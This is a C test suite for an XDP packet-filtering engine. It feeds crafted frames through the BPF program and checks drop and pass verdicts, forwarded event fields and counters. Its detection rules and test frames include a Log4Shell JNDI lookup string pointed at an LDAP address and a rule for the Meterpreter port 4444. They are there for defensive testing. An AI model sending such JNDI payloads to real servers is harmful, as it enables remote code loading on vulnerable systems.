// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * ks_xdp_main through BPF_PROG_TEST_RUN: crafted frames in, XDP verdict,
 * forwarded events and counters out. One table row per frame:
 * {description, frame, verdict, forwarded event fields, counter deltas}.
 * The rules are compiled from YAML by the production compiler and the
 * program is the production object, loaded by the engine.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <linux/bpf.h>

#include "kestrel/xdp.h"
#include "kestrel.skel.h"
#include "test_progs.h"
#include "testutil.h"

/* `payload : "..."` needs a block scalar: ": " would end a plain one */
static const char *xdp_rules =
	"- rule: log4shell_payload\n"
	"  name: Log4Shell JNDI lookup in packet\n"
	"  severity: critical\n"
	"  action: block\n"
	"  query: |\n    network where event.action == \"packet\" and payload : \"*${jndi:*\"\n"
	"- rule: beacon_payload\n"
	"  name: Beacon marker in packet\n"
	"  severity: low\n"
	"  action: alert\n"
	"  query: |\n    network where event.action == \"packet\" and payload : \"*KSBEACON*\"\n"
	"- rule: meterpreter_port\n"
	"  name: Packet to the default Meterpreter port\n"
	"  severity: high\n"
	"  action: block\n"
	"  query: |\n    network where event.action == \"packet\" and destination.port == 4444\n"
	"- rule: doc_net_source\n"
	"  name: Packet from TEST-NET-3\n"
	"  severity: medium\n"
	"  action: alert\n"
	"  query: |\n    network where event.action == \"packet\" and cidrMatch(source.ip, \"203.0.113.0/24\")\n"
	"- rule: lo_port_5555\n"
	"  name: Port 5555 on the loopback interface\n"
	"  severity: low\n"
	"  action: alert\n"
	"  query: |\n    network where observer.ingress.interface.name == \"lo\" and destination.port == 5555\n"
	/* forwards packets from the probe addresses, so rows can check fields */
	"- rule: probe\n"
	"  name: Probe source\n"
	"  severity: low\n"
	"  query: |\n    network where cidrMatch(source.ip, \"198.51.100.99/32\", \"2001:db8::99/128\")\n";

/* ---- frame builder ---- */

#define L_ETH	1	/* layers, for truncation points */
#define L_IP	2
#define L_L4	3

struct frame {
	int vlans;		/* 0, 1 (802.1Q), 2 (802.1AD + 802.1Q), 3 */
	int family;		/* 4, 6; 0 = ARP */
	int ip_opts;		/* IPv4 option bytes (multiple of 4) */
	int ext;		/* IPv6: hop-by-hop + dest-opts headers before L4 */
	int frag;		/* 1: non-first fragment */
	int proto;		/* IPPROTO_TCP / IPPROTO_UDP / other */
	uint16_t sport, dport;
	const char *saddr, *daddr;
	const char *text;	/* payload: fill bytes, then text at text_off */
	int fill;		/* payload length before text is placed (0 = strlen(text)) */
	int text_off;
	int cut_layer;		/* truncate inside this layer's header (0 = none) */
	int cut_bytes;		/* bytes of that header kept */
	int pad;		/* Ethernet trailer (':' bytes) after the IP packet */
};

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v & 0xff;
}

/* The IPv4 header of f (options included) at p; returns its length. */
static size_t build_ipv4(const struct frame *f, uint8_t *p, size_t l4_bytes)
{
	size_t hlen = 20 + f->ip_opts, i;

	p[0] = 0x40 | (hlen / 4);
	put16(p + 2, hlen + l4_bytes);
	put16(p + 6, f->frag ? 0x00b9 : 0x4000);	/* offset 185*8 or DF */
	p[8] = 64;
	p[9] = f->proto;
	inet_pton(AF_INET, f->saddr, p + 12);
	inet_pton(AF_INET, f->daddr, p + 16);
	for (i = 0; i < (size_t)f->ip_opts; i++)	/* NOPs, then EOL */
		p[20 + i] = i + 1 < (size_t)f->ip_opts ? 1 : 0;
	return hlen;
}

/* The IPv6 header of f and its extension headers at buf + ip_off; returns the L4 offset. */
static size_t build_ipv6(const struct frame *f, uint8_t *buf, size_t ip_off, size_t l4_bytes)
{
	size_t ext = f->ext ? 16 : 0, l4_off = ip_off + 40;
	uint8_t nh = f->proto, *p = buf + ip_off;

	if (f->frag)
		ext += 8;
	p[0] = 0x60;
	put16(p + 4, ext + l4_bytes);
	p[7] = 64;
	inet_pton(AF_INET6, f->saddr, p + 8);
	inet_pton(AF_INET6, f->daddr, p + 24);
	/* chain: [hop-by-hop] [dest-opts] [fragment] L4 */
	if (f->ext) {
		p[6] = 0;			/* hop-by-hop */
		buf[l4_off] = 60;		/* -> dest opts */
		buf[l4_off + 1] = 0;
		buf[l4_off + 2] = 1;		/* PadN */
		buf[l4_off + 3] = 4;
		buf[l4_off + 8] = f->frag ? 44 : nh;
		buf[l4_off + 9] = 0;
		buf[l4_off + 10] = 1;
		buf[l4_off + 11] = 4;
		l4_off += 16;
	} else {
		p[6] = f->frag ? 44 : nh;
	}
	if (f->frag) {
		buf[l4_off] = nh;
		put16(buf + l4_off + 2, 185 << 3);
		l4_off += 8;
	}
	return l4_off;
}

/* Build f into buf; returns the frame length. */
static size_t build(const struct frame *f, uint8_t *buf, size_t cap)
{
	size_t pos = 12, ip_off, l4_off, pay_len, l4_len, i;
	uint8_t *p;

	memset(buf, 0, cap);
	memcpy(buf, "\x02\x00\x00\x00\x00\x02\x02\x00\x00\x00\x00\x01", 12);
	for (i = 0; i < (size_t)f->vlans; i++) {
		put16(buf + pos, i == 0 && f->vlans > 1 ? 0x88a8 : 0x8100);
		put16(buf + pos + 2, 100 + i);
		pos += 4;
	}
	if (f->cut_layer == L_ETH)
		return pos + f->cut_bytes;
	if (f->family == 0) {	/* ARP request */
		put16(buf + pos, 0x0806);
		pos += 2;
		memcpy(buf + pos, "\x00\x01\x08\x00\x06\x04\x00\x01", 8);
		return pos + 28;
	}
	put16(buf + pos, f->family == 4 ? 0x0800 : 0x86dd);
	pos += 2;
	ip_off = pos;

	pay_len = f->fill ? (size_t)f->fill : (f->text ? strlen(f->text) : 0);
	l4_len = f->proto == IPPROTO_TCP ? 20 : f->proto == IPPROTO_UDP ? 8 : 0;
	if (f->family == 4)
		l4_off = build_ipv4(f, buf + ip_off, l4_len + pay_len) + ip_off;
	else
		l4_off = build_ipv6(f, buf, ip_off, l4_len + pay_len);
	if (f->cut_layer == L_IP)
		return ip_off + f->cut_bytes;

	p = buf + l4_off;
	put16(p, f->sport);
	put16(p + 2, f->dport);
	if (f->proto == IPPROTO_TCP) {
		p[12] = 5 << 4;
		p[13] = 0x18;	/* PSH|ACK */
	} else if (f->proto == IPPROTO_UDP) {
		put16(p + 4, 8 + pay_len);
	}
	if (f->cut_layer == L_L4)
		return l4_off + f->cut_bytes;

	pos = l4_off + l4_len;
	memset(buf + pos, 'A', pay_len);
	if (f->text && f->fill)
		memcpy(buf + pos + f->text_off, f->text, strlen(f->text));
	else if (f->text)
		memcpy(buf + pos, f->text, pay_len);
	memset(buf + pos + pay_len, ':', f->pad);	/* would complete "${jndi" */
	return pos + pay_len + f->pad;
}

/* ---- the table ---- */

struct counts {
	long events, filtered, forwarded, parse, pass, drop;
};

struct row {
	const char *desc;
	struct frame f;
	int verdict;			/* XDP_PASS / XDP_DROP */
	struct counts d;		/* counter deltas, source xdp */
	const char *rules[3];		/* rules matched (exact) on the forwarded event */
	int payload_len;		/* expected payload length, -1 = null */
};

#define V4(...)	.family = 4, .saddr = "198.51.100.7", .daddr = "192.0.2.1", __VA_ARGS__
#define V6(...)	.family = 6, .saddr = "2001:db8::7", .daddr = "2001:db8::1", __VA_ARGS__
/* from the probe addresses: forwarded by rule "probe", fields checked */
#define P4(...)	.family = 4, .saddr = "198.51.100.99", .daddr = "192.0.2.1", __VA_ARGS__
#define P6(...)	.family = 6, .saddr = "2001:db8::99", .daddr = "2001:db8::1", __VA_ARGS__
#define TCP_TO(port)	.proto = IPPROTO_TCP, .sport = 40000, .dport = (port)
#define UDP_TO(port)	.proto = IPPROTO_UDP, .sport = 40001, .dport = (port)
#define TCP	TCP_TO(80)
#define UDP	UDP_TO(53)

#define FWD_PASS	{ .events = 1, .forwarded = 1, .pass = 1 }
#define FWD_DROP	{ .events = 1, .forwarded = 1, .drop = 1 }
#define FILTERED	{ .events = 1, .filtered = 1, .pass = 1 }
#define PARSE		{ .events = 1, .parse = 1, .pass = 1 }

#define JNDI	"GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\n"
#define DEPTH	KS_PAYLOAD_DEFAULT

static const struct row rows[] = {
	{ "ipv4 tcp jndi payload is dropped", { V4(TCP), .text = JNDI },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, sizeof(JNDI) - 1 },
	{ "ipv4 udp jndi payload is dropped", { V4(UDP), .text = "${jndi:dns://x}" },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, 15 },
	{ "ipv4 tcp clean payload passes", { V4(TCP), .text = "GET / HTTP/1.1\r\n" },
	  XDP_PASS, FILTERED, {}, 16 },
	{ "ipv4 udp clean payload passes", { V4(UDP), .text = "hello" },
	  XDP_PASS, FILTERED, {}, 5 },
	{ "match is case-insensitive", { V4(TCP), .text = "x=${JNDI:ldap://a}" },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, 18 },
	{ "match at payload offset 0", { V4(TCP), .text = "${jndi:", .fill = 64 },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, 64 },
	{ "match in the middle", { V4(TCP), .text = "${jndi:", .fill = 200, .text_off = 97 },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, 200 },
	{ "match ending at the depth limit", { V4(TCP), .text = "${jndi:", .fill = 400,
	  .text_off = DEPTH - 7 }, XDP_DROP, FWD_DROP, { "log4shell_payload" }, DEPTH },
	{ "match one byte past the depth limit", { V4(TCP), .text = "${jndi:", .fill = 400,
	  .text_off = DEPTH - 6 }, XDP_PASS, FILTERED, {}, DEPTH },
	{ "ethernet padding is not payload", { P4(UDP), .text = "${jndi", .pad = 20 },
	  XDP_PASS, FWD_PASS, { "probe" }, 6 },
	{ "empty payload is null", { P4(TCP) },
	  XDP_PASS, FWD_PASS, { "probe" }, -1 },
	{ "empty udp datagram: payload null", { P6(UDP) },
	  XDP_PASS, FWD_PASS, { "probe" }, -1 },
	{ "802.1Q vlan", { .vlans = 1, V4(TCP), .text = JNDI },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, sizeof(JNDI) - 1 },
	{ "QinQ (802.1AD + 802.1Q)", { .vlans = 2, V4(UDP), .text = JNDI },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, sizeof(JNDI) - 1 },
	{ "three vlan tags are not inspected", { .vlans = 3, V4(UDP), .text = JNDI },
	  XDP_PASS, PARSE, {}, 0 },
	{ "ipv4 with options", { V4(TCP), .ip_opts = 12, .text = JNDI },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, sizeof(JNDI) - 1 },
	{ "ipv6 tcp", { V6(TCP), .text = JNDI },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, sizeof(JNDI) - 1 },
	{ "ipv6 udp clean", { V6(UDP), .text = "hello" },
	  XDP_PASS, FILTERED, {}, 5 },
	{ "ipv6 with extension headers", { V6(UDP), .ext = 1, .text = JNDI },
	  XDP_DROP, FWD_DROP, { "log4shell_payload" }, sizeof(JNDI) - 1 },
	{ "ipv6 non-first fragment has no l4", { V6(UDP_TO(4444)), .ext = 1,
	  .frag = 1, .text = JNDI }, XDP_PASS, FILTERED, {}, -1 },
	{ "ipv4 non-first fragment has no l4", { V4(UDP_TO(4444)), .frag = 1,
	  .text = JNDI }, XDP_PASS, FILTERED, {}, -1 },
	{ "ipv6 fragment fields", { P6(UDP_TO(4444)), .ext = 1, .frag = 1, .text = JNDI },
	  XDP_PASS, FWD_PASS, { "probe" }, -1 },
	{ "ipv4 fragment fields", { P4(UDP_TO(4444)), .frag = 1, .text = JNDI },
	  XDP_PASS, FWD_PASS, { "probe" }, -1 },
	{ "ipv6 extension headers, fields", { P6(TCP), .ext = 1, .text = "abc" },
	  XDP_PASS, FWD_PASS, { "probe" }, 3 },
	{ "ipv4 options, fields", { P4(UDP), .ip_opts = 40, .text = "abc" },
	  XDP_PASS, FWD_PASS, { "probe" }, 3 },
	{ "qinq fields", { .vlans = 2, P4(TCP), .text = "abc" },
	  XDP_PASS, FWD_PASS, { "probe" }, 3 },
	{ "truncated vlan tag", { .vlans = 1, V4(TCP), .cut_layer = L_ETH, .cut_bytes = 0 },
	  XDP_PASS, PARSE, {}, 0 },
	{ "truncated ipv4 header", { V4(TCP), .cut_layer = L_IP, .cut_bytes = 12 },
	  XDP_PASS, PARSE, {}, 0 },
	{ "truncated ipv4 options", { V4(TCP), .ip_opts = 16, .cut_layer = L_IP,
	  .cut_bytes = 24 }, XDP_PASS, PARSE, {}, 0 },
	{ "truncated ipv6 header", { V6(TCP), .cut_layer = L_IP, .cut_bytes = 30 },
	  XDP_PASS, PARSE, {}, 0 },
	{ "truncated tcp header", { V4(TCP), .cut_layer = L_L4, .cut_bytes = 10 },
	  XDP_PASS, PARSE, {}, 0 },
	{ "truncated udp header", { V6(UDP), .cut_layer = L_L4, .cut_bytes = 4 },
	  XDP_PASS, PARSE, {}, 0 },
	{ "arp is filtered", { .family = 0 },
	  XDP_PASS, FILTERED, {}, 0 },
	{ "alert rule: forwarded, passes", { V4(UDP), .text = "xx KSBEACON yy" },
	  XDP_PASS, FWD_PASS, { "beacon_payload" }, 14 },
	{ "numeric rule: destination.port 4444", { V4(TCP_TO(4444)), .text = "hi" },
	  XDP_DROP, FWD_DROP, { "meterpreter_port" }, 2 },
	{ "numeric rule without payload", { V6(TCP_TO(4444)) },
	  XDP_DROP, FWD_DROP, { "meterpreter_port" }, -1 },
	{ "cidrMatch rule on source.ip", { .family = 4, .saddr = "203.0.113.77",
	  .daddr = "192.0.2.1", UDP, .text = "ok" }, XDP_PASS, FWD_PASS,
	  { "doc_net_source" }, 2 },
	{ "cidrMatch does not match outside", { .family = 4, .saddr = "203.0.114.77",
	  .daddr = "192.0.2.1", UDP, .text = "ok" }, XDP_PASS, FILTERED, {}, 2 },
	{ "two rules on one packet", { .family = 4, .saddr = "203.0.113.9",
	  .daddr = "192.0.2.1", .proto = IPPROTO_TCP, .sport = 1234, .dport = 4444,
	  .text = JNDI }, XDP_DROP, FWD_DROP,
	  { "log4shell_payload", "meterpreter_port", "doc_net_source" }, sizeof(JNDI) - 1 },
	{ "interface name rule (lo)", { V4(UDP_TO(5555)), .text = "z" },
	  XDP_PASS, FWD_PASS, { "lo_port_5555" }, 1 },
};

/* ---- checks ---- */

static void snap(struct ks_tenv *te, struct counts *c)
{
	struct ks_stats st;

	memset(c, 0, sizeof(*c));
	if (!ASSERT_OK(ks_tenv_stats(te, &st), "stats"))
		return;
	c->events = st.events[KS_SRC_XDP];
	c->filtered = st.filtered[KS_SRC_XDP];
	c->forwarded = st.forwarded[KS_SRC_XDP];
	/* other drop reasons are covered by the identity after the table */
	c->parse = st.dropped[KS_SRC_XDP][KS_DROP_PARSE];
	c->pass = st.packets_pass;
	c->drop = st.packets_drop;
}

/*
 * Wall-clock ns: the test session moves @timestamp (boot ns) to the
 * epoch by an offset measured at load, so a stamp is compared with this
 * clock, give or take KS_TS_SLACK_NS.
 */
#define KS_TS_SLACK_NS	50000000ll
static __u64 wall_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	return (__u64)ts.tv_sec * 1000000000ull + ts.tv_nsec;
}

static void mapped(const char *s, uint8_t out[16])
{
	memset(out, 0, 16);
	if (strchr(s, ':')) {
		inet_pton(AF_INET6, s, out);
		return;
	}
	out[10] = out[11] = 0xff;
	inet_pton(AF_INET, s, out + 12);
}

static void check_event(struct ks_tenv *te, const struct row *r, const struct ks_event *ev)
{
	const struct frame *f = &r->f;
	uint8_t want[16];
	char buf[KS_PAYLOAD_MAX + 1];
	int i, n_rules = 0;

	ASSERT_EQ(ev->category, KS_CAT_NETWORK, "event.category");
	ASSERT_EQ(ev->action, KS_ACT_PACKET, "event.action");
	ASSERT_EQ(ev->source, KS_SRC_XDP, "source");
	ASSERT_EQ(ev->direction, 1, "network.direction");
	ASSERT_EQ(ev->family, f->family, "family");
	ASSERT_EQ(ev->transport, f->proto, "network.transport");
	ASSERT_EQ(ev->sport, f->frag ? 0 : f->sport, "source.port");
	ASSERT_EQ(ev->dport, f->frag ? 0 : f->dport, "destination.port");
	ASSERT_TRUE(ev->present & KS_P_NET, "present net");
	mapped(f->saddr, want);
	ASSERT_OK(memcmp(ev->saddr, want, 16), "source.ip");
	mapped(f->daddr, want);
	ASSERT_OK(memcmp(ev->daddr, want, 16), "destination.ip");
	ASSERT_EQ(ev->ifindex, if_nametoindex("lo"), "ifindex");
	ASSERT_STREQ(ks_tenv_str(ev, KS_F_IFACE_NAME, buf, sizeof(buf)), "lo",
		     "observer.ingress.interface.name");
	ASSERT_NEQ(ev->ts_ns, 0, "@timestamp");
	if (r->payload_len < 0) {
		ASSERT_FALSE(ev->present & KS_P_PAYLOAD, "payload null");
	} else {
		ASSERT_TRUE(ev->present & KS_P_PAYLOAD, "payload present");
		ASSERT_EQ(ev->str[KS_F_PAYLOAD].off, offsetof(struct ks_event, payload),
			  "payload off");
		ASSERT_EQ(ev->str[KS_F_PAYLOAD].len, r->payload_len, "payload len");
		if (f->text && !f->fill)
			ASSERT_OK(memcmp(ev->payload, f->text, r->payload_len), "payload bytes");
	}
	for (i = 0; i < 3 && r->rules[i]; i++) {
		int rule = ks_tenv_rule(te, r->rules[i]);

		n_rules++;
		if (!ASSERT_GE(rule, 0, r->rules[i]))
			continue;
		if (!ks_tenv_matched(te, ev, rule, true)) {
			test__fail();
			fprintf(stderr, "  %s: rule %s did not match\n", r->desc, r->rules[i]);
		}
	}
	ASSERT_EQ(ev->verdict.n_match, n_rules, "matches");
	ASSERT_EQ(!!(ev->verdict.flags & KS_V_DENIED), r->verdict == XDP_DROP, "denied flag");
}

static int run_frame(int prog_fd, const uint8_t *frame, size_t len, __u32 *retval)
{
	LIBBPF_OPTS(bpf_test_run_opts, topts, .data_in = frame, .data_size_in = len,
		    .repeat = 1);
	int err = bpf_prog_test_run_opts(prog_fd, &topts);

	*retval = topts.retval;
	return err;
}

static bool xdp_env_timed(struct ks_tenv *te, const char *rules, __u32 depth, __u32 every)
{
	struct ks_engine_opts o = {
		.mode = KS_MODE_SIGNAL,	/* enforcing: XDP block needs no LSM */
		.xdp = true,
		.no_host = true,
		.payload_depth = depth,
		.time_every = every,
	};

	if (!ASSERT_OK(ks_tenv_compile(te, rules), "compile"))
		return false;
	if (!ASSERT_OK(ks_tenv_load(te, &o), "load"))
		return false;
	return ASSERT_OK(ks_xdp_set_ifname(&te->e, if_nametoindex("lo"), "lo"), "ifname");
}

static bool xdp_env(struct ks_tenv *te, const char *rules, __u32 depth)
{
	return xdp_env_timed(te, rules, depth, 0);
}

static void test_table(void)
{
	struct ks_tenv te = {};
	struct counts c0, a, b;
	uint8_t frame[2048];
	size_t i;
	int fd;

	if (!xdp_env(&te, xdp_rules, 0))
		goto out;
	fd = ks_xdp_prog_fd(&te.e);
	if (!ASSERT_GE(fd, 0, "prog fd"))
		goto out;
	snap(&te, &c0);
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct row *r = &rows[i];
		size_t len = build(&r->f, frame, sizeof(frame)), before = te.n;
		__u64 t0, t1;
		__u32 ret = 0;
		bool bad = false;

		snap(&te, &a);
		t0 = wall_ns() - KS_TS_SLACK_NS;
		if (!ASSERT_OK(run_frame(fd, frame, len, &ret), r->desc))
			continue;
		t1 = wall_ns() + KS_TS_SLACK_NS;
		ks_tenv_drain(&te, 0);
		snap(&te, &b);

		bad |= !ASSERT_EQ(ret, r->verdict, "verdict");
		bad |= !ASSERT_EQ(b.events - a.events, r->d.events, "events");
		bad |= !ASSERT_EQ(b.filtered - a.filtered, r->d.filtered, "filtered");
		bad |= !ASSERT_EQ(b.forwarded - a.forwarded, r->d.forwarded, "forwarded");
		bad |= !ASSERT_EQ(b.parse - a.parse, r->d.parse, "dropped{parse}");
		bad |= !ASSERT_EQ(b.pass - a.pass, r->d.pass, "packets_pass");
		bad |= !ASSERT_EQ(b.drop - a.drop, r->d.drop, "packets_drop");
		bad |= !ASSERT_EQ(te.n - before, (size_t)r->d.forwarded, "ring buffer events");
		if (te.n > before && te.n - before == 1) {
			bool was = test__failed();

			check_event(&te, r, &te.evs[before]);
			/* read when the event is forwarded (ks_event_time), within the run */
			ASSERT_GE(te.evs[before].ts_ns, t0, "@timestamp after the run began");
			ASSERT_GE(t1, te.evs[before].ts_ns, "@timestamp before it ended");
			bad |= !was && test__failed();
		}
		if (bad)
			fprintf(stderr, "  ^ row %zu: %s (frame %zu bytes)\n", i, r->desc, len);
		else if (env.verbose)
			fprintf(stderr, "  ok row %zu: %s\n", i, r->desc);
	}

	/* the accounting identity, after the whole table */
	{
		struct ks_stats st;

		if (ASSERT_OK(ks_tenv_stats(&te, &st), "stats")) {
			ASSERT_TRUE(ks_stats_identity(&st, KS_SRC_XDP),
				    "events == filtered + forwarded + dropped");
			ASSERT_EQ(st.events[KS_SRC_XDP] - c0.events,
				  sizeof(rows) / sizeof(rows[0]), "one event per frame");
			ASSERT_EQ(st.packets_pass + st.packets_drop - c0.pass - c0.drop,
				  sizeof(rows) / sizeof(rows[0]), "one verdict per frame");
			ASSERT_EQ(st.dropped[KS_SRC_XDP][KS_DROP_REENTRANT], 0, "reentrant");
			ASSERT_EQ(st.dropped[KS_SRC_XDP][KS_DROP_NO_TABLES], 0, "no tables");
			ASSERT_GE(st.truncations[KS_F_PAYLOAD], 2, "payload truncations");
		}
	}
out:
	ks_tenv_close(&te);
}

/* payload_depth from rodata: the same frame matches or not with the depth. */
static void test_depth(void)
{
	static const struct {
		__u32 depth;
		int off, verdict, len;
	} cases[] = {
		{ 64, 57, XDP_DROP, 64 },	/* ends at byte 64 */
		{ 64, 58, XDP_PASS, 64 },
		{ KS_PAYLOAD_MAX, 1000, XDP_DROP, 1200 },
		{ 100000, 1193, XDP_DROP, 1200 },	/* clamped to KS_PAYLOAD_MAX */
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct frame f = { V4(TCP), .text = "${jndi:", .fill = 1200,
				   .text_off = cases[i].off };
		struct ks_tenv te = {};
		uint8_t frame[2048];
		__u32 ret = 0;
		size_t len;

		if (!xdp_env(&te, xdp_rules, cases[i].depth))
			goto next;
		len = build(&f, frame, sizeof(frame));
		if (!ASSERT_OK(run_frame(ks_xdp_prog_fd(&te.e), frame, len, &ret), "run"))
			goto next;
		ASSERT_EQ(ret, cases[i].verdict, "verdict at depth");
		ks_tenv_drain(&te, 0);
		if (cases[i].verdict == XDP_DROP && ASSERT_EQ(te.n, 1, "forwarded"))
			ASSERT_EQ(te.evs[0].str[KS_F_PAYLOAD].len, cases[i].len, "payload len");
next:
		ks_tenv_close(&te);
	}
}

/*
 * --time-every: of 64 evaluated packets (one BPF_PROG_TEST_RUN, so one
 * CPU, from a count of 0) the kernel times one in N, each in the
 * histogram and the sum; 16 is kload's default (0).
 */
static void test_time_every(void)
{
	static const __u32 every[] = { 1, 4, 0 };
	struct frame f = { V4(TCP), .text = "GET / HTTP/1.0" };
	uint8_t frame[256];
	size_t i, len = build(&f, frame, sizeof(frame));

	for (i = 0; i < sizeof(every) / sizeof(every[0]); i++) {
		LIBBPF_OPTS(bpf_test_run_opts, topts, .data_in = frame, .data_size_in = len,
			    .repeat = 64);
		__u64 timed = 0, n = every[i] ?: KS_TIME_EVERY_DEFAULT;
		struct ks_tenv te = {};
		struct ks_stats st;
		int b;

		if (!xdp_env_timed(&te, xdp_rules, 0, every[i]))
			goto next;
		if (!ASSERT_OK(bpf_prog_test_run_opts(ks_xdp_prog_fd(&te.e), &topts), "run") ||
		    !ASSERT_OK(ks_tenv_stats(&te, &st), "stats"))
			goto next;
		for (b = 0; b < KS_HIST_BUCKETS; b++)
			timed += st.eval_ns_hist[b];
		ASSERT_EQ(st.events[KS_SRC_XDP], 64, "events");
		ASSERT_EQ(timed, 64 / n, "timed events");
		ASSERT_EQ(st.eval_ns_sum > 0, 1, "time summed");
next:
		ks_tenv_close(&te);
	}
}

/* Verifier cost of the XDP program (it is not part of test_verifier's modes). */
static void test_verify(void)
{
	struct ks_engine_opts o = { .mode = KS_MODE_SIGNAL, .xdp = true, .no_host = true };
	struct bpf_prog_info info = {};
	__u32 len = sizeof(info);
	struct ks_engine e;
	int fd;

	if (!ASSERT_OK(ks_engine_load(&e, &o), "load"))
		return;
	fd = ks_xdp_prog_fd(&e);
	if (ASSERT_GE(fd, 0, "prog fd") &&
	    ASSERT_OK(bpf_obj_get_info_by_fd(fd, &info, &len), "info")) {
		test__log("%-16s %7u verified insns\n", KS_XDP_PROG, info.verified_insns);
		/* the budget of prog_tests/verifier.c (half the 1M limit) */
		ASSERT_LT(info.verified_insns, 500000, "verified insns");
	}
	ks_engine_destroy(&e);
}

/* Without tables nothing is judged, nothing is dropped, and it is counted. */
static void test_no_tables(void)
{
	struct ks_engine_opts o = { .mode = KS_MODE_SIGNAL, .xdp = true, .no_host = true };
	struct frame f = { V4(TCP), .text = JNDI };
	struct ks_tenv te = {};
	struct ks_stats st;
	uint8_t frame[256];
	__u32 ret = 0;

	if (!ASSERT_OK(ks_tenv_compile(&te, NULL), "compile") ||
	    !ASSERT_OK(ks_tenv_load(&te, &o), "load"))
		goto out;
	if (!ASSERT_OK(run_frame(ks_xdp_prog_fd(&te.e), frame, build(&f, frame, sizeof(frame)),
				 &ret), "run"))
		goto out;
	ASSERT_EQ(ret, XDP_PASS, "verdict");
	if (ASSERT_OK(ks_tenv_stats(&te, &st), "stats")) {
		ASSERT_EQ(st.events[KS_SRC_XDP], 1, "events");
		ASSERT_EQ(st.dropped[KS_SRC_XDP][KS_DROP_NO_TABLES], 1, "dropped{no_tables}");
		ASSERT_EQ(st.packets_pass, 1, "packets_pass");
	}
out:
	ks_tenv_close(&te);
}

/*
 * The packet filter (struct ks_net_filter): a packet whose protocol or
 * port no rule takes is counted filtered before its payload is copied or
 * scanned (dfa_bytes does not move), even one whose payload holds the
 * rule's pattern; the rule's own protocol and port are scanned and match.
 */
static void test_port_filter(void)
{
	static const char *rules =
		"- rule: web_beacon\n"
		"  name: Beacon marker to a web port\n"
		"  query: |\n    network where event.action == \"packet\" and "
		"network.transport == \"tcp\" and destination.port in (80, 443) and "
		"payload : \"*KSBEACON*\"\n";
	static const struct {
		struct frame f;
		int forwarded;
	} cases[] = {
		{ { V4(TCP_TO(443)), .text = "xx KSBEACON yy" }, 1 },
		{ { V4(UDP_TO(443)), .text = "xx KSBEACON yy" }, 0 },	/* protocol */
		{ { V6(TCP_TO(8080)), .text = "xx KSBEACON yy" }, 0 },	/* port */
		{ { V4(TCP_TO(80)), .text = "clean" }, 0 },		/* scanned, no hit */
	};
	struct ks_tenv te = {};
	struct ks_stats a, b;
	uint8_t frame[256];
	__u32 ret = 0;
	size_t i;

	if (!xdp_env(&te, rules, DEPTH))
		goto out;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		if (!ASSERT_OK(ks_tenv_stats(&te, &a), "stats") ||
		    !ASSERT_OK(run_frame(ks_xdp_prog_fd(&te.e), frame,
					 build(&cases[i].f, frame, sizeof(frame)), &ret), "run") ||
		    !ASSERT_OK(ks_tenv_stats(&te, &b), "stats"))
			break;
		ASSERT_EQ(ret, XDP_PASS, "verdict");
		ASSERT_EQ(b.forwarded[KS_SRC_XDP] - a.forwarded[KS_SRC_XDP], cases[i].forwarded,
			  "forwarded");
		ASSERT_EQ(b.filtered[KS_SRC_XDP] - a.filtered[KS_SRC_XDP], !cases[i].forwarded,
			  "filtered");
		/* the refused ones are never scanned; the web port's always */
		ASSERT_EQ(b.dfa_bytes > a.dfa_bytes, i == 0 || i == 3, "payload scanned");
	}
out:
	ks_tenv_close(&te);
}

void test_xdp(void)
{
	if (test__start_subtest("verify"))
		test_verify();
	if (test__start_subtest("table"))
		test_table();
	if (test__start_subtest("depth"))
		test_depth();
	if (test__start_subtest("no_tables"))
		test_no_tables();
	if (test__start_subtest("port_filter"))
		test_port_filter();
	if (test__start_subtest("time_every"))
		test_time_every();
}
